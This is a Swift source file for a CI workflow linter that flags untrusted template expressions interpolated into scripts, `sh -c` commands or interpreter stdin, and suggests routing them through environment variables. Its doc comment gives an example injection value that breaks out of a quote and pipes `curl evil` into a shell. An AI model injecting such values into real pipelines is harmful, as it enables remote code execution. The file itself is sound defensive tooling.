/// Template expressions interpolated into program text: a script, the command
/// string of `sh -c`, the code of `python3 -c` and the like. The value lands in the
/// text before the interpreter parses it, so a value such as `x"; curl evil | sh; "`
/// runs as commands: the classic CI script-injection bug. Passing the value through
/// `env` keeps it data, and an argument of its own (`argv: [prog, "${{ input.x }}"]`)
/// never reaches a parser at all, so neither is a finding.
public enum ScriptInjection {
    public struct Finding: Sendable, Equatable, CustomStringConvertible {
        /// `script`, `stdin` or `argv[2]`.
        public var field: String
        /// The expression as written, `${{ input.name }}`.
        public var expression: String
        /// The untrusted root it reads (the first, by name, when it reads several).
        public var root: String
        public var message: String

        public init(field: String, expression: String, root: String, message: String) {
            self.field = field
            self.expression = expression
            self.root = root
            self.message = message
        }

        public var description: String { message }
    }

    /// Roots the workflow's author controls: `env` (the workflow's own `env`, see
    /// `untrustedEnv`), and `index` and `iteration`, which are counters. Every other
    /// root is untrusted: `input` comes from whoever starts the run, `steps` from
    /// what programs printed (often fetched data), `item` from the list a `forEach`
    /// walks (itself from input or steps), and `secrets` must not be spliced into
    /// code where a quote in the value breaks out or the text is logged. A root
    /// added later is untrusted until it is listed here.
    public static let trustedRoots: Set<String> = ["env", "index", "iteration"]

    /// Findings for one exec step. `script` is program text whatever its
    /// `interpreter`. In `argv`, only arguments the program parses as code count;
    /// `stdin` counts when `argv` runs an interpreter that reads its program from
    /// stdin (`argv: [sh]`, `python3 -`). `untrustedEnv` names workflow `env`
    /// entries whose values come from untrusted roots (`untrustedEnvNames(in:)`):
    /// `${{ env.X }}` for one of those carries the value as surely as the root itself.
    public static func findings(script: String?, argv: [String]?, interpreter: [String]?,
                                stdin: String? = nil, untrustedEnv: Set<String> = []) -> [Finding] {
        var out: [Finding] = []
        if let script {
            let lang = CommandCode.language(ofInterpreter: interpreter)
            out += scan(script, field: "script", place: "into the script's text", lang: lang, untrustedEnv: untrustedEnv)
        } else if let argv, let (lang, at, arguments, readsStdin) = CommandCode.code(in: argv) {
            let program = argv[at].split(separator: "/").last.map(String.init) ?? argv[at]
            for i in arguments {
                let place = lang.name == "shell" ? "into the command \(program) runs with -c" : "into the code \(program) runs"
                out += scan(argv[i], field: "argv[\(i)]", place: place, lang: lang, untrustedEnv: untrustedEnv)
            }
            if readsStdin, let stdin {
                out += scan(stdin, field: "stdin", place: "into the program \(program) reads from stdin", lang: lang, untrustedEnv: untrustedEnv)
            }
        }
        return out
    }

    /// Workflow `env` entries whose values read untrusted roots.
    public static func untrustedEnvNames(in env: [String: String]) -> Set<String> {
        Set(env.compactMap { name, value in
            guard let t = try? Template(value) else { return nil }
            return t.expressions.contains { !untrustedRoots(of: $0, untrustedEnv: []).isEmpty } ? name : nil
        })
    }

    static func scan(_ text: String, field: String, place: String, lang: CommandCode.Language,
                     untrustedEnv: Set<String>) -> [Finding] {
        // A template that does not parse is reported where the workflow loads.
        guard let template = try? Template(text) else { return [] }
        var out: [Finding] = []
        var seen = Set<String>()
        for case let .expression(e, source) in template.parts {
            guard let root = untrustedRoots(of: e, untrustedEnv: untrustedEnv).sorted().first,
                  seen.insert(source).inserted else { continue }
            let expression = "${{ \(source) }}"
            let name = suggestedName(for: e)
            let reference = lang.readsEnv(name)
            let target = field == "script" ? "the script" : (field == "stdin" ? "the program" : "the command")
            let message = "\(field) interpolates \(expression) \(place), where a value can inject commands; "
                + "pass it through env instead (env: {\(name): \"\(expression)\"} and use \(reference) in \(target)), "
                + "or set allowInterpolation: true on the step"
            out.append(Finding(field: field, expression: expression, root: root, message: message))
        }
        return out
    }

    /// The untrusted roots an expression reads: any root not in `trustedRoots`, and
    /// `env` when it reads an entry in `untrustedEnv` (or an entry it cannot name).
    static func untrustedRoots(of e: Expression, untrustedEnv: Set<String>) -> Set<String> {
        var roots = e.references.roots.subtracting(trustedRoots)
        if !untrustedEnv.isEmpty, e.references.roots.contains("env") {
            let (names, unnamed) = envReads(e)
            if unnamed || !names.isDisjoint(with: untrustedEnv) { roots.insert("env") }
        }
        return roots
    }

    /// The `env` entries an expression reads by name, and whether it also reads
    /// `env` some other way (`env[input.key]`, `toJSON(env)`).
    static func envReads(_ e: Expression) -> (names: Set<String>, unnamed: Bool) {
        var names = Set<String>(), unnamed = false
        func walk(_ e: Expression) {
            switch e {
            case let .member(.name("env"), n): names.insert(n)
            case let .index(.name("env"), .literal(.string(n))): names.insert(n)
            case .name("env"): unnamed = true
            case let .member(b, _): walk(b)
            case let .index(b, i): walk(b); walk(i)
            case let .not(x): walk(x)
            case let .binary(_, l, r): walk(l); walk(r)
            case let .call(_, args): args.forEach(walk)
            case .name, .literal: break
            }
        }
        walk(e)
        return (names, unnamed)
    }

    /// An environment variable name for the value: `input.user.name` is
    /// `USER_NAME`, `steps.fetch.output` is `FETCH_OUTPUT`, anything else `VALUE`.
    static func suggestedName(for e: Expression) -> String {
        var parts: [String] = []
        var here = e
        walk: while true {
            switch here {
            case let .member(base, key):
                parts.insert(key, at: 0)
                here = base
            case let .index(base, .literal(.string(key))):
                parts.insert(key, at: 0)
                here = base
            case let .index(base, _):
                here = base
            case let .name(root):
                if parts.isEmpty { parts = [root] }
                break walk
            default:
                return "VALUE"
            }
        }
        let name = parts.suffix(2).map { $0.uppercased().map { $0.isLetter || $0.isNumber ? String($0) : "_" }.joined() }
            .joined(separator: "_")
        guard let first = name.first, first.isASCII, first.isLetter, name.allSatisfy(\.isASCII) else { return "VALUE" }
        return name
    }
}
